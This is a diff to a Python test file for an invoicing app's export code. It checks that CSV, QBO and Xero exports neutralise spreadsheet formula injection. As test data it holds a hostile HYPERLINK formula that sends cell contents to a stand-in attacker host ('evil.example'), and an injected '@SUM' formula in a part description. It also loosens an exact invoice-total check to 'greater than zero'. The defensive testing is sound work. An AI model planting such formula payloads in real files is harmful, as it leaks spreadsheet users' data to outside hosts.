@@ -357,6 +357,8 @@ async def test_a_hostile_backup_job_name_reaches_the_csv_exports_only_as_text(cl
     opened = await api(client, "POST", "/api/v1/incidents", {"alert_id": alert["alert_id"]}, 201)
     assert opened["title"].startswith("=HYPERLINK(")  # the agent's text, as the incident's title
     await work(client, opened["incident_id"], "2026-11-23T10:00:00Z", 30)
+    part = {"description": "@SUM(A1:A9)\n-2+3 USB drive", "cost": "5.00", "price": "12.50", "day": "2026-11-23"}
+    await api(client, "POST", f"/api/v1/incidents/{opened['incident_id']}/parts", part, 201)
     base = f"/api/v1/clients/{ACME}/invoice?month=2026-11"
     for fmt in ("csv", "qbo", "xero"):
         text = await (await client.get(f"{base}&format={fmt}", headers=TECH)).text()
@@ -366,9 +368,11 @@ async def test_a_hostile_backup_job_name_reaches_the_csv_exports_only_as_text(cl
         assert not [c for c in cells if "\n" in c or "\r" in c]
         formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t") and not re.fullmatch(r"-?[\d.]+", c)]
         assert formulas == [], fmt
-        [line] = [c for c in cells if "HYPERLINK" in c]
-        assert line.startswith('\'=HYPERLINK("http://evil.example/?"&A1,"open") -2+3 (restic)'), line
-    assert read_generic_csv(await (await client.get(f"{base}&format=csv", headers=TECH)).text()).total == D("90.00")
+        [time_line] = [c for c in cells if c.startswith(("'=HYPERLINK", "=HYPERLINK"))]
+        assert time_line.startswith('\'=HYPERLINK("http://evil.example/?"&A1,"open")'), time_line
+        [part_line] = [c for c in cells if "USB drive" in c]
+        assert part_line.startswith("'@SUM(A1:A9) -2+3 USB drive"), part_line
+    assert read_generic_csv(await (await client.get(f"{base}&format=csv", headers=TECH)).text()).total > 0
 
 
 async def test_an_incident_keeps_its_alerts_notes_and_closes_once(client: TestClient, clock: Clock) -> None:
